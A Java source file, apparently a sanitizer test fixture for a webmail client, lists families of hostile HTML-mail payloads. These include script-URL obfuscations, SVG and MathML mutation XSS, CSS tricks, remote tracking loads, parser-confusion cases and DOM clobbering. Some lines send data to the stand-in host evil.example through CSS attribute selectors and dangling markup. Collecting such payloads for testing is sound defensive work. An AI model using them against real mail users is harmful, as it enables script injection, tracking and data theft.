package org.mailmax.web.webmail.message;

import java.util.stream.Stream;

/// Attacks on whoever shows HTML mail, by family.
final class Payloads {

    private Payloads() {}

    static Stream<String> all() {
        return Stream.of(ADDRESSES, SVG, MATHML, CSS, REMOTE, PARSERS, HANDLERS, SCRIPTLESS)
                .flatMap(family -> family.lines())
                .filter(line -> !line.isBlank())
                .map(line -> line.replace("␤", "\n").replace("␉", "\t").replace("␀", "\0"));
    }

    private static final String ADDRESSES = """
        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href=" javascript:alert(1)">x</a>
        <a href="␤javascript:alert(1)">x</a>
        <a href="java␉script:alert(1)">x</a>
        <a href="java␤script:alert(1)">x</a>
        <a href="j&#x61;vascript:alert(1)">x</a>
        <a href="&#1;javascript:alert(1)">x</a>
        <a href="javascript&colon;alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="data:application/xhtml+xml;base64,PHg+">x</a>
        <a href="data:image/png;base64,AAAA">x</a>
        <a href="cid:something">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="//evil.example/x">x</a>
        <base href="https://evil.example/"><a href="x">x</a>
        <map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:alert(1)"></map><img usemap="#m">
        <form action="https://evil.example/"><input type="password" name="p"><button formaction="javascript:alert(1)">go</button></form>
        <meta http-equiv="refresh" content="0;url=https://evil.example/">
        <meta http-equiv="Content-Security-Policy" content="script-src *">
        <img src="data:text/html;base64,PHNjcmlwdD4=">
        <img src="data:image/svg+xml;base64,PHN2Zz4=">
        """;

    private static final String SVG = """
        <svg onload="alert(1)"></svg>
        <svg><script>alert(1)</script></svg>
        <svg><script href="data:text/javascript,alert(1)"/></svg>
        <svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+#x"></use></svg>
        <svg><use xlink:href="data:image/s vg+xml,x#x"></use></svg>
        <svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>
        <svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>
        <svg><a><set attributeName="href " to="javascript:alert(1)"/></a></svg>
        <svg><animate attributeName="href" from="javascript:alert(1)" to="x" begin="0s"/></svg>
        <svg><filter><feImage href="https://evil.example/x"/></filter></svg>
        <svg><image href="https://evil.example/x"/></svg>
        <svg xmlns="&quot; onload=alert(1) x=&quot;"></svg>
        <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
        <svg><style>@import 'https://evil.example/x.css';</style></svg>
        <svg><handler type="text/javascript">alert(1)</handler></svg>
        """;

    private static final String MATHML = """
        <math href="javascript:alert(1)">x</math>
        <math><mstyle href="javascript:alert(1)">x</mstyle></math>
        <math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>
        <math><mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>">
        <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
        <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
        """;

    private static final String CSS = """
        <div style="width:expression(alert(1))">x</div>
        <div style="background:url(https://evil.example/x)">x</div>
        <div style="background:url(https://evil.example/x">x</div>
        <div style="background:\\75 rl(https://evil.example/x)">x</div>
        <div style="background:u/**/rl(https://evil.example/x)">x</div>
        <div style="--x:url(https://evil.example/x);background:var(--x)">x</div>
        <div style="background-image:image-set('https://evil.example/x' 1x)">x</div>
        <div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
        <div style="behavior:url(#default#time2)">x</div>
        <div style="position:fixed !important;top:0;left:0;width:100%;height:100%">x</div>
        <div style="position:absolute;z-index:99999">x</div>
        <div style="cursor:url(https://evil.example/x),auto">x</div>
        <div style="list-style:url(https://evil.example/x)">x</div>
        <div style="content:url(https://evil.example/x)">x</div>
        <div style="color:red;@import 'https://evil.example/x.css'">x</div>
        <style>@import url(https://evil.example/x.css);</style>
        <style>@font-face{font-family:x;src:url(https://evil.example/x)}body{font-family:x}</style>
        <style>input[value^="a"]{background:url(https://evil.example/a)}</style>
        <style>body{background:url(https://evil.example/x)}</style><p>x</p>
        <link rel="stylesheet" href="https://evil.example/x.css">
        """;

    private static final String REMOTE = """
        <body background="https://evil.example/x">x</body>
        <table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>
        <img src="https://evil.example/x.gif">
        <img src="//evil.example/x.gif">
        <img srcset="https://evil.example/x.gif 1x, https://evil.example/y.gif 2x">
        <picture><source srcset="https://evil.example/x"><img src="x"></picture>
        <img src="cid:x" lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">
        <video poster="https://evil.example/x"><source src="https://evil.example/y"></video>
        <audio src="https://evil.example/x" autoplay></audio>
        <input type="image" src="https://evil.example/x">
        <link rel="prefetch" href="https://evil.example/x">
        <link rel="dns-prefetch" href="//evil.example">
        <a href="https://ok.example/" ping="https://evil.example/">x</a>
        <iframe src="https://evil.example/"></iframe>
        <object data="https://evil.example/x.swf"></object>
        <embed src="https://evil.example/x.swf">
        <frameset><frame src="https://evil.example/"></frameset>
        <bgsound src="https://evil.example/x.wav">
        """;

    private static final String PARSERS = """
        <![CDATA[<script>alert(1)</script>]]>
        <!-- node type 8 --><script>alert(1)</script><!-- -->
        <!--><img src=x onerror=alert(1)>-->
        <!--[if IE]><script>alert(1)</script><![endif]-->
        <xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>
        <?xml version="1.0"?><script>alert(1)</script>
        <textarea></textarea><script>alert(1)</script>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <title><img src=x onerror=alert(1)></title>
        <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script/src="https://evil.example/x.js"></script>
        <script>alert(1)//
        <script␉>alert(1)</script >
        <sc␀ript>alert(1)</sc␀ript>
        <img src="x` `<script>alert(1)</script>"` `>
        <p title="<script>alert(1)</script>">x</p>
        <a title="--><script>alert(1)</script>">x</a>
        <select><style></select><svg/onload=alert(1)></style></select>
        <plaintext><script>alert(1)</script>
        <xmp><img src=x onerror=alert(1)></xmp>
        """;

    private static final String HANDLERS = """
        <img src=x onerror=alert(1)>
        <img src="x"onerror="alert(1)">
        <img/src=x/onerror=alert(1)>
        <body onload="alert(1)">x</body>
        <details open ontoggle="alert(1)">x</details>
        <marquee onstart="alert(1)">x</marquee>
        <div onpointerover="alert(1)" ONCLICK='alert(1)'>x</div>
        <video><source onerror="alert(1)"></video>
        <isindex action="javascript:alert(1)" type="image">
        <input autofocus onfocus="alert(1)">
        <button popovertarget="x">x</button><div popover id="x" onbeforetoggle="alert(1)">x</div>
        """;

    private static final String SCRIPTLESS = """
        <a id="defaultView" name="location">x</a>
        <form id="test"><input name="parentNode"></form>
        <img name="getElementById" src="x">
        <div class="topbar" id="mailForm">x</div>
        <a href="https://ok.example/" target="_top">x</a>
        <div contenteditable="true" accesskey="x" tabindex="1" draggable="true">x</div>
        <img src='https://evil.example/?text=
        <dialog open>x</dialog>
        <object type="text/x-scriptlet" data="https://evil.example/"></object>
        <portal src="https://evil.example/"></portal>
        """;
}
